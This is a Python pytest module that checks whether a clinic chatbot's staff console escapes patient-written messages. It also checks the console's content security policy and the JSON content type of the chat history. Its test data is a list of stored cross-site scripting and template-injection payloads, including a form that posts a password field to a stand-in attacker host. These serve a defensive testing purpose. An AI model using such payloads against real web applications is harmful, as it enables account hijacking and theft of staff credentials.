"""What a patient writes stays words: in every page of the console where it is shown, and in what a browser is sent."""

from __future__ import annotations

from html.parser import HTMLParser

import httpx
import pytest

from bot.care.database import transaction
from bot.care.models import Patient
from bot.safety.levels import Level
from tests.attack.conftest import OURS, Clinic

WORDS = (
    "<script>alert('stored')</script>",
    '"><img src=x onerror=alert("stored")>',
    "<svg/onload=alert('stored')>",
    "</textarea></template><iframe srcdoc='stored'></iframe>",
    "{{ 7777 * 7777 }} {% include 'stored' %} ${7777*7777}",
    "<a href=\"javascript:alert('stored')\" hx-get=/staff/logout>stored</a>",
    "<form action=https://evil.example/stored method=post><input name=password></form>",
)


class Marks(HTMLParser):
    """Every element of a page, with the attributes that could act."""

    def __init__(self) -> None:
        super().__init__()
        self.acting: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note what runs, loads or leads elsewhere."""
        given = {name: value or "" for name, value in attrs}
        if tag in ("iframe", "object", "embed", "base"):
            self.acting.append(tag)
        if tag == "script" and not given.get("src", "").startswith("/staff/static/"):
            self.acting.append("script")
        for name, value in given.items():
            leads = name in ("href", "src", "action", "formaction", "srcdoc")
            if name.startswith("on") or (leads and not value.startswith(("/", "#", "?", "tel:", "mailto:"))):
                self.acting.append(f"{tag} {name}={value}")


def acting(page: str) -> list[str]:
    marks = Marks()
    marks.feed(page)
    return marks.acting


@pytest.fixture(scope="module")
def written(clinic: Clinic) -> int:
    """A conversation in which all of it was written, some of it worrying, by somebody with such a name."""
    with transaction(clinic.engine) as session:
        patient = session.get(Patient, clinic.ids["patient"])
        assert patient is not None
        patient.name = WORDS[1]
    for number, words in enumerate(WORDS):
        clinic.says(words, Level.CRISIS if number % 2 else Level.NONE)
    return clinic.ids["conversation"]


def test_the_look_finds_what_acts() -> None:
    assert all(acting(words) for words in WORDS if words.startswith(("<", '"')) and "{{" not in words)


def test_no_page_of_the_console_runs_what_a_patient_wrote(clinic: Clinic, written: int) -> None:
    pages = [
        "/staff", "/staff/queue", f"/staff/conversations/{written}", f"/staff/conversations/{written}/transcript",
        f"/staff/conversations/{written}/panel", f"/staff/conversations/{written}/composer",
        f"/staff/conversations/{written}/notes", f"/staff/patients/{clinic.ids['patient']}",
        f"/staff/patients/{clinic.ids['patient']}/record", f"/staff/patients/{clinic.ids['patient']}/access",
        "/staff/patients", "/staff/unanswered", "/staff/reports",
    ]  # fmt: skip
    shown = 0
    with httpx.Client(
        base_url=clinic.base, headers=OURS, timeout=30, cookies=clinic.login("clinician")
    ) as nurse:
        for page in pages:
            answer = nurse.get(page, follow_redirects=True)
            assert answer.status_code == 200, page
            assert acting(answer.text) == [], page
            assert "60481729" not in answer.text, f"{page}: a template worked a patient's words"
            shown += "alert(" in answer.text
            # Were it not escaped, the browser would still refuse it.
            assert "script-src 'self'" in answer.headers["content-security-policy"]
            assert "unsafe" not in answer.headers["content-security-policy"]
    assert shown >= 4, "what was written is not on these pages any more: look where it is shown now"


def test_the_browser_of_a_patient_gets_words_as_json(clinic: Clinic) -> None:
    with httpx.Client(base_url=clinic.base, timeout=30, cookies=clinic.visitor()) as browser:
        for number, words in enumerate(WORDS):
            body = {"id": f"stored-{number}", "text": words}
            answer = browser.post("/chat/messages", json=body)
            assert answer.status_code == 202 and answer.json()["message"]["text"] == words
        history = browser.get("/chat/messages")
    # No browser takes it for a page, whatever it holds.
    assert history.headers["content-type"] == "application/json"
    assert history.headers["x-content-type-options"] == "nosniff"
    assert [one["text"] for one in history.json()["messages"] if one["from"] == "patient"] == list(WORDS)
